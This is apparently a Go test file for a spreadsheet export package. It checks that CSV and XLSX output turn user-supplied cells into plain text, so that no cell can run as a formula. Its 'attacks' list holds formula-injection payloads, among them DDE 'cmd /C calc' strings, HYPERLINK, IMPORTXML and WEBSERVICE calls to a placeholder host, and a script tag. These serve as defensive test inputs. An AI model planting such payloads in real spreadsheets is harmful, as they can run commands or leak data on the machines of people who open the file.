package sheets

import (
	"bytes"
	"encoding/csv"
	"errors"
	"io"
	"math"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xuri/excelize/v2"
	"go.uber.org/goleak"
)

func TestMain(m *testing.M) { goleak.VerifyTestMain(m) }

var east = time.FixedZone("UTC+8", 8*60*60)

func write(t testing.TB, f Format, rows ...[]any) []byte {
	t.Helper()
	var b bytes.Buffer
	w, err := New(&b, f, Table{Title: "案卷", Header: []string{"编号", "标题"}, Zone: east})
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rows {
		if err := w.Row(r...); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// What reporters may write so that a spreadsheet does what they like.
var attacks = []string{
	`=1+1`, `+1+1`, `-1+1`, `@SUM(A1)`, `=HYPERLINK("http://x/?"&A1,"点击")`, `=cmd|' /C calc'!A0`, "\t=1+1", "\r=1+1", "\n=1+1",
	` =1+1`, "\u00a0=1+1", "\u3000=1+1", "\ufeff=1+1", "\u200b=1+1", `"=1+1"`, `＝1+1`, `＋1`, `－1`, `＠x`, `|calc`, `%0A=1`,
	`a;=1+1`, "a\t=1+1", "a,=1+1", "a\n=1+1", "a\r\n=1+1", `a";=1+1;"`, `"a","=1+1"`, `-`, `=`, `'=1+1`, "\x00=1+1", "\x1b=1+1", "\xff=1+1",
	`DDE("cmd";"/C calc";"x")`, `<script>alert(1)</script>`, `=IMPORTXML("http://x")`, `=WEBSERVICE("http://x")`,
}

// spreadsheet cuts text as a spreadsheet does that has another separator.
func spreadsheet(t testing.TB, raw []byte, comma rune) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff"))))
	r.Comma, r.FieldsPerRecord, r.LazyQuotes = comma, -1, true
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}

func dangerous(cell string) bool {
	trimmed := strings.TrimLeft(cell, " \t\r\n\u00a0\u3000\ufeff\u200b")
	first, _ := utf8.DecodeRuneInString(trimmed)
	return strings.ContainsRune("=+-@＝＋－＠|%", first) && trimmed != ""
}

func TestCSVHoldsNoFormula(t *testing.T) {
	for _, a := range attacks {
		raw := write(t, CSV, []any{a, "次", -117.05})
		if !bytes.HasPrefix(raw, []byte("\xef\xbb\xbf\"编号\"")) {
			t.Fatalf("%q", raw)
		}
		for _, comma := range []rune{',', ';', '\t'} {
			rows := spreadsheet(t, raw, comma)
			for _, row := range rows[1:] {
				for i, cell := range row {
					if dangerous(cell) && !(comma == ',' && i == 2) {
						t.Errorf("%q, cut at %q: a cell %q", a, comma, cell)
					}
				}
			}
			if comma == ',' && (len(rows) != 2 || len(rows[1]) != 3 || rows[1][2] != "-117.05") {
				t.Errorf("%q: %q", a, rows)
			}
		}
	}
}

func TestWorkbookHoldsNoFormula(t *testing.T) {
	for _, a := range attacks {
		f, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX, []any{a, "次"})))
		if err != nil {
			t.Fatalf("%q: %v", a, err)
		}
		formula, err := f.GetCellFormula("案卷", "A2")
		kind, kindErr := f.GetCellType("案卷", "A2")
		text, _ := f.GetCellValue("案卷", "A2")
		if formula != "" || err != nil || kindErr != nil || kind != excelize.CellTypeInlineString && kind != excelize.CellTypeSharedString {
			t.Errorf("%q: formula %q, type %v, %v %v", a, formula, kind, err, kindErr)
		}
		want := strings.NewReplacer("\r\n", "\n", "\r", "\n").Replace(clean(a))
		if got := strings.NewReplacer("\r\n", "\n", "\r", "\n", "_x000D_", "\n").Replace(text); got != want {
			t.Errorf("%q reads as %q", want, got)
		}
		style, err := f.GetCellStyle("案卷", "A2")
		if err != nil {
			t.Fatal(err)
		}
		if s, err := f.GetStyle(style); err != nil || s.NumFmt != textFormat {
			t.Errorf("%q: not a cell of texts: %+v, %v", a, s, err)
		}
		_ = f.Close()
	}
}

func TestKindsOfCells(t *testing.T) {
	at := time.Date(2026, 11, 24, 1, 2, 3, 400e6, time.UTC)
	cells := []any{"字", true, 7, int64(-8), 117.0512345, at, time.Time{}, nil, math.NaN()}
	rows := spreadsheet(t, write(t, CSV, cells), ',')
	if got := strings.Join(rows[1], "|"); got != "字|true|7|-8|117.0512345|2026-11-24 09:02:03|||" {
		t.Errorf("csv %q", got)
	}
	f, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX, cells)))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	list, err := f.GetRows("案卷")
	if err != nil || len(list) != 2 || strings.Join(list[1], "|") != "字|TRUE|7|-8|117.0512345|2026-11-24 09:02:03" {
		t.Errorf("xlsx %q, %v", list, err)
	}
	for _, format := range []Format{CSV, XLSX} {
		w, err := New(io.Discard, format, Table{})
		if err != nil {
			t.Fatal(err)
		}
		if w.Row(struct{}{}) == nil {
			t.Errorf("%s takes anything", format)
		}
		if err := w.Close(); err != nil {
			t.Error(err)
		}
	}
	if _, err := New(io.Discard, "pdf", Table{}); err == nil {
		t.Error("an unknown format was taken")
	}
}

func TestLongCellsAreCut(t *testing.T) {
	long := strings.Repeat("😀", maxCell)
	if got := clean(long); utf8.RuneCountInString(got) != maxCell/2 {
		t.Errorf("%d characters", utf8.RuneCountInString(got))
	}
	f, err := excelize.OpenReader(bytes.NewReader(write(t, XLSX, []any{long})))
	if err != nil {
		t.Fatal(err)
	}
	_ = f.Close()
}

// A large workbook goes through a file that is removed again.
func TestTemporaryFilesAreRemoved(t *testing.T) {
	dir := t.TempDir()
	t.Setenv("TMPDIR", dir)
	w, err := New(io.Discard, XLSX, Table{Title: "x", Header: []string{"a"}})
	if err != nil {
		t.Fatal(err)
	}
	text := strings.Repeat("网格", 4000)
	for range 1000 {
		if err := w.Row(text); err != nil {
			t.Fatal(err)
		}
	}
	if list, _ := os.ReadDir(dir); len(list) == 0 {
		t.Error("everything is held in memory")
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if list, _ := os.ReadDir(dir); len(list) != 0 {
		t.Errorf("%d files are left", len(list))
	}
}

type broken struct{}

func (broken) Write([]byte) (int, error) { return 0, errors.New("the disk is full") }

func TestErrorsOfTheDestination(t *testing.T) {
	if _, err := New(broken{}, CSV, Table{Header: []string{"a"}}); err == nil {
		t.Error("csv: no error")
	}
	w, err := New(broken{}, XLSX, Table{Header: []string{"a"}})
	if err != nil {
		t.Fatal(err)
	}
	if w.Close() == nil {
		t.Error("xlsx: no error")
	}
}

func FuzzCells(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Fuzz(func(t *testing.T, text string) {
		if len(text) > 4096 {
			return
		}
		raw := write(t, CSV, []any{text, text})
		if !utf8.Valid(raw) {
			t.Fatal("not UTF-8")
		}
		rows := spreadsheet(t, raw, ',')
		if len(rows) != 2 || len(rows[1]) != 2 {
			t.Fatalf("%q", rows)
		}
		if dangerous(rows[1][0]) {
			t.Fatalf("a cell %q", rows[1][0])
		}
	})
}
